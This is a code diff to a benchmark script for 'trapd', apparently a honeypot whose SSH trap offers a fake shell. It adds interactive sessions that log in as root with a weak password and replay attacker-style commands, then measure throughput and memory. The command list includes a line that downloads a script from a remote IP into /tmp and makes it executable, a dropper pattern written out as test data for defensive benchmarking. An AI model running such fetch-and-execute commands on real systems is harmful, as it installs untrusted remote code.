@@ -78,6 +78,58 @@ function sshSession(port: number): Promise<void> {
   });
 }
 
+const SHELL_COMMANDS = ["echo ok", "uname -a", "cat /proc/cpuinfo", "id", "w", "free -m", "ls -la /tmp", "cd /tmp", "wget http://203.0.113.50/bins/x.sh -O /tmp/x", "chmod +x /tmp/x"];
+
+/**
+ * An interactive session on the SSH trap's fake shell: login with a credential the default policy
+ * accepts, a pty shell, 10 commands, exit. `hold` keeps the shell open until released instead.
+ */
+function shellSession(port: number, hold?: Promise<void>): Promise<boolean> {
+  return new Promise((resolve) => {
+    const c = new SshClient();
+    let ok = false;
+    const done = () => {
+      c.end();
+      resolve(ok);
+    };
+    c.on("error", done).on("close", done);
+    c.on("ready", () => {
+      c.shell({ term: "xterm", rows: 24, cols: 80 }, (err, stream) => {
+        if (err) return done();
+        stream.on("close", done).on("data", () => {});
+        if (hold) {
+          stream.write("uname -a\n");
+          ok = true;
+          void hold.then(() => stream.end("exit\n"));
+          return;
+        }
+        for (const cmd of SHELL_COMMANDS) stream.write(`${cmd}\n`);
+        ok = true;
+        stream.end("exit\n");
+      });
+    });
+    c.connect({ host: "127.0.0.1", port, username: "root", password: "123456", readyTimeout: 15_000, tryKeyboard: false });
+  });
+}
+
+/** trapd's RSS while `n` interactive shells are open at once (from its health reports). */
+async function heldShells(port: number, n: number): Promise<void> {
+  let release!: () => void;
+  const hold = new Promise<void>((r) => (release = r));
+  const sessions: Promise<boolean>[] = [];
+  for (let i = 0; i < n; i += 20) {
+    for (let j = i; j < Math.min(n, i + 20); j++) sessions.push(shellSession(port, hold));
+    await Bun.sleep(50);
+  }
+  await Bun.sleep(3_000);
+  rss = 0;
+  await waitFor(() => rss > 0, 5_000, "trapd health under held shells");
+  const held = rss;
+  release();
+  const opened = (await Promise.all(sessions)).filter(Boolean).length;
+  console.log(`trapd RSS with ${opened}/${n} interactive shells open: ${(held / 1048576).toFixed(1)} MB (goal ≤ 150 MB)`);
+}
+
 /** First contact → hit published, each from its own loopback address (127.1.x.y), so no hit is coalesced. */
 async function firstContact(port: number, n: number, perSecond: number): Promise<void> {
   latencies.length = 0;
@@ -111,7 +163,9 @@ async function run(kind: string, one: () => Promise<void>): Promise<void> {
 }
 
 try {
-  console.log(`trapd bench: ${SECONDS} s per kind, ${CONCURRENCY} concurrent clients, loopback (goals: generic ≥ 5000 conn/s, ssh ≥ 300 conn/s)`);
+  console.log(`trapd bench: ${SECONDS} s per kind, ${CONCURRENCY} concurrent clients, loopback (goals: generic ≥ 5000 conn/s, ssh ≥ 300 conn/s; ssh+shell = interactive sessions/s, login + 10 commands)`);
+  // Held shells first, so the figure is theirs and not the heap left by the load phases below.
+  await heldShells(ports.ssh, 200);
   await run("warm-up", () => tcpSession(ports.generic, undefined));
   await run("generic", () => tcpSession(ports.generic, undefined));
   // Most scanners send a probe; a client that half-closes at once (above) costs Bun far more.
@@ -120,6 +174,8 @@ try {
   await run("redis", () => tcpSession(ports.redis, "PING\r\n"));
   await run("ftp", () => tcpSession(ports.ftp, "USER root\r\n"));
   await run("ssh", () => sshSession(ports.ssh));
+  // Interactive: login + 10 commands + exit on the fake shell (issue 16).
+  await run("ssh+shell", async () => void (await shellSession(ports.ssh)));
   await firstContact(ports.generic, 500, 200);
   await Bun.sleep(1_200);
   console.log(`trapd peak RSS ${(rss / 1048576).toFixed(1)} MB (goal ≤ 150 MB)`);
